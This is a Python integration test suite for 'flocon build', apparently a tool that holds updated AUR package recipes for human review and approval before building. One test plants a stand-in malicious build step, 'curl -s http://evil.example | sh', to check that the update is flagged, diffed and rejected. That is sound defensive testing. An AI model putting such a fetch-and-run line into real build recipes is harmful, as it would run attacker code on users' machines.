"""``flocon build`` as a person types it, to a real node with a stand-in for the AUR.

Nothing is built: there is no builder here, and the node says so. What is approved waits for it.
"""

from __future__ import annotations

import json
import os
import pwd
import re
import shutil
import socket
import subprocess
import sys
import urllib.error
import urllib.request
from typing import Any
from urllib.parse import urlencode

from twisted.trial.unittest import SynchronousTestCase

from tests.aur.recipes import recipe
from tests.aur.standin import StandIn
from tests.lan.lan import environment, to_toml, twistd, wait_until, working_folder
from tests.needs import leave_out


def free_port() -> int:
    with socket.create_server(("127.0.0.1", 0)) as listening:
        return int(listening.getsockname()[1])


class Commands(SynchronousTestCase):
    def setUp(self) -> None:
        lacking = [name for name in ("git", "pacman-conf") if shutil.which(name) is None]
        leave_out(f"{' and '.join(lacking)} cannot be found" if lacking else "")
        self.folder = working_folder(16 << 20)
        self.addCleanup(shutil.rmtree, self.folder, ignore_errors=True)
        self.aur = StandIn(self.folder / "aur")
        self.site = self.aur.serve()
        self.addCleanup(self.site.stop)
        self.port = free_port()
        (self.folder / "builds").mkdir()
        (self.folder / "pacman.conf").write_text(
            "[options]\nArchitecture = x86_64\n"
            f"DBPath = {self.folder}/db\nCacheDir = {self.folder}/cache\n"
        )
        self.start(self.settings())

    def settings(self) -> dict[str, Any]:
        folder = self.folder
        return {
            "pacman_conf": f"{folder}/pacman.conf",
            "lan": f"tcp:{free_port()}:interface=127.0.0.1",
            "loopback": [f"tcp:{self.port}:interface=127.0.0.1"],
            "store": {"path": f"{folder}/store"},
            "presence": {"port": free_port(), "interfaces": ["127.0.0.1"]},
            "repo": {"signer": f"{folder}/no-signer", "published": f"{folder}/published"},
            "build": {
                "state": f"{folder}/builds",
                "builder": f"{folder}/no-builder",
                "aur": self.site.address,
                "aur_copy": "",
                "poll": 0,
                "networks": ["127.0.0.0/8"],
                "notify_command": [self.teller()],
            },
        }

    def teller(self) -> str:
        program = self.folder / "tell"
        program.write_text(f'#!/bin/sh\necho "$@" >>{self.folder}/told\n')
        program.chmod(0o755)
        return str(program)

    def start(self, settings: dict[str, Any]) -> None:
        config = self.folder / "flocon.toml"
        config.write_text(to_toml(settings))
        self.log = self.folder / "node.log"
        with self.log.open("wb") as log:
            node = subprocess.Popen(
                [twistd(), "-n", "--pidfile=", "flocon", "--config", str(config)],
                cwd=self.folder,
                env=environment(),
                stdout=log,
                stderr=log,
            )
        self.addCleanup(node.wait, 10)
        self.addCleanup(node.terminate)
        wait_until(lambda: node.poll() is not None or self.answers(), 30, "the node answers")
        self.assertIsNone(node.poll(), self.log.read_text())

    def answers(self) -> bool:
        try:
            with urllib.request.urlopen(f"http://127.0.0.1:{self.port}/check", timeout=5):
                return True
        except OSError:
            return False

    def flocon(self, *words: str, typed: str = "", status: int = 0) -> str:
        """Run the command; return what it said on both streams."""
        done = subprocess.run(
            [sys.executable, "-m", "flocon.cli", "--port", str(self.port), *words],
            input=typed,
            cwd=self.folder,
            env=environment(),
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
            text=True,
            timeout=60,
            check=False,
        )
        self.assertEqual(done.returncode, status, f"{words}: {done.stdout}{self.log.read_text()}")
        return done.stdout

    def watched(self) -> dict[str, dict[str, Any]]:
        """Return what the node tells of each recipe, by its base."""
        with urllib.request.urlopen(f"http://127.0.0.1:{self.port}/builds.json", timeout=10) as got:
            return {one["base"]: one for one in json.loads(got.read())["watched"]}

    def stage(self, base: str) -> str:
        return str(self.watched()[base]["stage"])

    def push(self, base: str, version: str = "1.0-1", **more: Any) -> str:
        return self.aur.push(base, recipe(base, version, **more))

    def test_recipes_are_added_shown_approved_and_held_and_all_is_noted(self) -> None:
        self.push("lib")
        commit = self.push("tool", depends=["lib"])
        said = self.flocon("build", "add", "tool", typed="y\ny\n")
        first, second = said.index("Have this built: lib"), said.index("Have this built: tool")
        self.assertLess(first, second)
        self.assertIn("+pkgname=", said)
        self.assertEqual(self.stage("tool"), "queued")
        self.assertIn("1.0-1", self.flocon("build", "status", "tool"))
        history = self.flocon("build", "history")
        self.assertIn("approved", history)
        self.assertIn(pwd.getpwuid(os.getuid()).pw_name, history)
        self.assertIn(commit, history)
        self.flocon("build", "hold", "tool")
        self.assertEqual(self.stage("tool"), "on hold")
        self.flocon("build", "hold", "tool", "--off")
        self.assertEqual(self.stage("tool"), "queued")
        self.flocon("build", "cancel", "lib")
        self.flocon("build", "rebuild", "lib")
        self.flocon("build", "remove", "tool")
        said = self.flocon("build", "status", "tool", status=1)
        self.assertIn("tool is not watched", said)

    def test_what_is_new_waits_is_shown_and_decided_as_it_was_shown(self) -> None:
        self.push("thing")
        self.flocon("build", "add", "thing", typed="y\n")
        self.flocon("build", "cancel", "thing")
        commit = self.push("thing", "1.1-1", build="curl -s http://evil.example | sh")
        self.flocon("build", "check")
        self.assertEqual(self.stage("thing"), "waits for a person")
        said = self.flocon("build", "diff", "thing")
        self.assertIn("+", said)
        self.assertIn("evil.example", said)
        self.assertRegex(said, r"[0-8] of 9 checks passed")
        said = self.flocon("build", "approve", "thing", typed="n\n")
        self.assertIn("thing goes on waiting", said)
        self.flocon("build", "reject", "thing", typed="n\n")
        self.flocon("build", "approve", "thing@0000000", "--yes", status=1)
        self.assertEqual(self.stage("thing"), "waits for a person")
        self.flocon("build", "reject", f"thing@{commit}", "--yes")
        self.assertNotEqual(self.stage("thing"), "waits for a person")
        self.assertIn("rejected", self.flocon("build", "history", "thing"))
        later = self.push("thing", "1.2-1", build=":")
        self.flocon("build", "check", "thing")
        self.flocon("build", "approve", f"thing@{later[:9]}", "--yes")
        self.assertNotEqual(self.stage("thing"), "waits for a person")
        self.flocon("build", "cancel", "thing")
        self.assertNotIn("Traceback", self.flocon("build", "log", "thing", "--follow"))

    def told(self) -> bool:
        return (self.folder / "told").exists()

    def test_a_person_is_told_once_by_the_program_that_is_set(self) -> None:
        self.push("thing")
        self.flocon("build", "add", "thing", typed="n\n")
        wait_until(self.told, 30, "the program is run")
        self.assertEqual((self.folder / "told").read_text(), "thing\n")

    def test_by_a_link_one_browser_decides(self) -> None:
        self.push("thing")
        self.flocon("build", "add", "thing", typed="n\n")
        link = self.flocon("build", "web").splitlines()[-1]
        self.assertTrue(link.startswith(f"http://localhost:{self.port}/review/"), link)
        with urllib.request.urlopen(f"{link}/thing", timeout=10) as page:
            text, cookie = page.read().decode(), page.headers["Set-Cookie"].partition(";")[0]
        with self.assertRaises(urllib.error.HTTPError) as caught:
            urllib.request.urlopen(f"{link}/thing", timeout=10)
        self.assertEqual(caught.exception.code, 403)
        fields = dict(re.findall(r'name="(word|decided)" value="([^"]+)"', text))
        asked = urllib.request.Request(
            f"{link}/thing/approve",
            data=urlencode(fields).encode(),
            headers={"Cookie": cookie, "Origin": f"http://localhost:{self.port}"},
        )
        with self.assertRaises(urllib.error.HTTPError) as caught:
            # Without a cookie it does not follow where it is led to.
            urllib.request.build_opener(_NoRedirect).open(asked, timeout=10)
        self.assertEqual(caught.exception.code, 303)
        self.assertNotEqual(self.stage("thing"), "waits for a person")

    def test_a_folder_is_handed_over_and_again_when_it_was_changed(self) -> None:
        mine = self.folder / "mine"
        mine.mkdir()
        for name, data in recipe("mine").items():
            (mine / name).write_bytes(data)
        self.flocon("build", "add", "./mine", typed="y\n")
        self.flocon("build", "cancel", "mine")
        for name, data in recipe("mine", "1.1-1").items():
            (mine / name).write_bytes(data)
        said = self.flocon("build", "add", "./mine", typed="n\n")
        self.assertIn("+pkgver=1.1", said)
        self.assertEqual(self.stage("mine"), "waits for a person")

    def test_a_repository_of_git_is_read_as_the_aurs_are(self) -> None:
        self.push("other")
        said = self.flocon("build", "add", f"{self.site.address}/other.git", typed="y\n")
        self.assertIn("+pkgname=", said)
        self.assertEqual(self.watched()["other"]["origin"]["kind"], "git")


class _NoRedirect(urllib.request.HTTPRedirectHandler):
    def redirect_request(self, *_: Any) -> None:
        """Follow nothing."""
